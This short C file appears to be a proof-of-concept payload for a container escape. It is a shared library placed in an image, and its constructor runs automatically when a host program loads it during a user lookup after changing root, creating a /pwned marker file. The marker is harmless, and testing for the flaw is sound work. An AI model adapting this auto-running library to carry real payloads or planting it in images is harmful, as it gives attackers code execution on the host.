// A library of an image that a program of the host loads if it looks up a user after it has changed its root.
#include <fcntl.h>
#include <unistd.h>

__attribute__((constructor)) static void go(void) {
  close(open("/pwned", O_WRONLY | O_CREAT, 0644));
}
